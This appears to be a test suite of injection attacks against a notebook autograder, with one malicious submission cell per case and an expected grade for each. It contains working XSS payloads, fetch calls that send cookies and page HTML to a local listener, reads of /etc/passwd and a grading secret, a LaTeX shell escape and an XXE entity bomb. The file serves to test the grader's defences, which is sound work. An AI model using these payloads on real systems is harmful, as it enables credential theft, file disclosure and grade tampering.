# Attacks, one per cell: theft, pages.

# %% html_magic deserves="1"
"""Uses the cell magic %%html for a page that phones home."""

CELL = """
%%html
<script src="http://127.0.0.1:48484/steal.js"></script>
<meta http-equiv="refresh" content="0; url=http://127.0.0.1:48484/">
<a href="http://127.0.0.1:48484/" ping="http://127.0.0.1:48484/ping" style="position:fixed;inset:0">x</a>
"""


def attack(work):
    work.answer_rightly("backward")
    work.add(CELL)


# %% html_output_script deserves="1"
"""Shows HTML with a script, in the page of whoever reads the feedback."""

CELL = """
from IPython.display import HTML, display
display(HTML("<script>fetch('http://127.0.0.1:48484/' + document.cookie)</script><img src=x onerror=alert(1)>"))
display(HTML("<form action='http://127.0.0.1:48484/'><button formaction='javascript:alert(1)'>Grade</button></form>"))
display(HTML("</pre></div></body></html><h1 class='grade'>8 / 8</h1>"))
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% javascript_output deserves="0"
"""Runs JavaScript by magic and by display, which in Jupyter could rewrite other cells."""

CELL = """
%%javascript
fetch("http://127.0.0.1:48484/", {method: "POST", body: document.documentElement.outerHTML});
Jupyter.notebook.get_cells().forEach(cell => cell.set_text("pass"));
"""

CELL2 = """
from IPython.display import Javascript, display
display(Javascript("alert(1)", lib="http://127.0.0.1:48484/lib.js"))
"""


def attack(work):
    work.add(CELL)
    work.add(CELL2)


# %% latex_script deserves="0"
"""Formulas with macros, links and script, for MathJax and for LaTeX."""

TEXT = r"""
$\href{javascript:alert(1)}{x}$ $\unicode{<script>alert(1)</script>}$ $\style{position:fixed}{x}$
$$ \require{html} \class{x" onmouseover="alert(1)}{y} \input{/etc/passwd} \write18{touch /tmp/escaped-latex_script} $$
$\def\x{\x\x}\x$ \(\begin{array}\verbatiminput{../../../.grading-secret}\end{array}\)
"""

CELL = r"""
from IPython.display import Latex, Math, display
display(Latex(r"$\href{javascript:alert(1)}{x}</script><script>alert(1)</script>$"), Math(r"\input{/etc/passwd}"))
"""


def attack(work):
    work.add(CELL)
    work.add(TEXT, cell_type="markdown")


# %% markdown_links_to_files deserves="0"
"""Markdown that embeds other files: attachments, file URLs and pictures from the course's folders."""

TEXT = """
![](file:///etc/passwd) ![](../../../gradebook.db) ![](/etc/hostname) ![](attachment:secret.png)
<object data="../../../source/scalar/scalar.ipynb" type="text/plain"></object>
<embed src="file:///etc/passwd"> <link rel=import href="../../../.grading-secret"> {% include "../../../.grading-secret" %}
{{ config }} {{ 7 * 7 }} <!--#include virtual="/etc/passwd" -->
"""


def attack(work):
    work.add(TEXT, cell_type="markdown", attachments={"secret.png": {"image/png": "Q0FOQVJZ"}})
    work.cell("forward")["attachments"] = {"../../escaped-markdown_links_to_files": {"text/plain": "RVNDQVBFRA=="}}


# %% markdown_script deserves="8"
"""Markdown answers with scripts, event handlers and pictures that phone home."""

TEXT = """
<script>fetch("http://127.0.0.1:48484/?" + document.cookie)</script>
<img src="http://127.0.0.1:48484/seen.png" onerror="alert('script')"> [click](javascript:alert(1))
![x](http://127.0.0.1:48484/x.png) <svg onload=alert(1)> <iframe srcdoc="<script>alert(1)</script>"></iframe>
<form action="http://127.0.0.1:48484/"><input name=password autofocus onfocus=alert(1)></form>
<style>@import url("http://127.0.0.1:48484/style.css"); body { display: none }</style><base href="http://127.0.0.1:48484/">
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(TEXT, cell_type="markdown")
    work.add(TEXT, before="test_forward", cell_type="raw")


# %% markup_in_errors deserves="1"
"""Errors, stream names and colour codes with markup in them."""

CELL = r"""
import sys
print("\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\ \x1b[38;5;1\"><script>alert(1)</script>m <img src=x onerror=alert(1)>")
print("</pre><script>alert(2)</script>", file=sys.stderr)
raise type("<script>alert(3)</script>", (Exception,), {})("<img src=x onerror=alert(4)> `</code><script>alert(5)</script>`")
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% markup_in_the_question deserves="0"
"""Answers that bring markup into messages: exception names, types and texts with script in them."""

FORWARD = """
def forward_propagation(x, theta):
    raise type("Script<script>alert(1)</script>", (AssertionError,), {})("<script>alert(2)</script>")
"""

BACKWARD = """
def backward_propagation(x, theta):
    return type("<script>alert(3)</script>", (), {})()
"""


def attack(work):
    work.answer("forward", FORWARD)
    work.answer("backward", BACKWARD)


# %% picture_from_elsewhere deserves="0"
"""Shows pictures, frames and videos by URLs, which load when the page is opened."""

CELL = """
from IPython.display import IFrame, Image, Video, display
display(Image(url="http://127.0.0.1:48484/seen.png"), IFrame("http://127.0.0.1:48484/", 1, 1))
display(Video("http://127.0.0.1:48484/film.mp4"), IFrame("file:///etc/passwd", 600, 400))
display(Image(url='x" onerror="alert(1)'))
"""


def attack(work):
    work.add(CELL)


# %% picture_with_script_bytes deserves="0"
"""Shows output that is called a picture but holds markup, in place of base64."""

CELL = """
from IPython.display import display
display({"image/png": '"><script>alert(1)</script>', "text/plain": "<script>alert(2)</script>"}, raw=True)
display({"image/jpeg": "x' onerror='alert(3)", "text/markdown": "<script>alert(4)</script>"}, raw=True)
display({"image/png": ["not", "text"], "text/latex": "</script><script>alert(5)</script>"}, raw=True)
"""


def attack(work):
    work.add(CELL)


# %% rare_output_types deserves="8"
"""Publishes outputs of rare types: widgets, JSON, vendor types, and types with markup in their names."""

CELL = """
from IPython.display import display
display({"application/vnd.jupyter.widget-view+json": {"model_id": "<script>alert(1)</script>"}}, raw=True)
display({"application/javascript": "alert(2)", "application/json": {"</script><script>": "alert(3)"}}, raw=True)
display({'text/html"><script>alert(4)</script>': "x", "text/vnd.mermaid": "graph LR; a-->b[<script>]"}, raw=True)
display({"application/pdf": "JVBERi0=", "text/html": ["<script>", "alert(5)", "</script>"]}, raw=True)
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL)


# %% svg_output_script deserves="2"
"""Shows an SVG picture with a script, a foreign object and a remote reference in it."""

CELL = """
from IPython.display import SVG, display
NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
display(SVG(f'<svg {NAMES} onload="alert(1)"><script>alert(2)</script><image xlink:href="http://127.0.0.1:48484/"/></svg>'))
display(SVG(f'<svg {NAMES}><foreignObject><iframe src="javascript:alert(3)"/></foreignObject></svg>'))
display({"image/svg+xml": "<svg><style>@import 'http://127.0.0.1:48484/x.css'</style>"}, raw=True)
"""


def attack(work):
    work.answer_rightly("forward", "backward")
    work.add(CELL)


# %% svg_that_includes_files deserves="0"
"""Shows an SVG picture whose XML entities name files of the grading machine."""

CELL = '''
from IPython.display import display
TEXT = """<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">
<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;&c;</text></svg>"""
display({"image/svg+xml": TEXT}, raw=True)
'''


def attack(work):
    work.add(CELL)
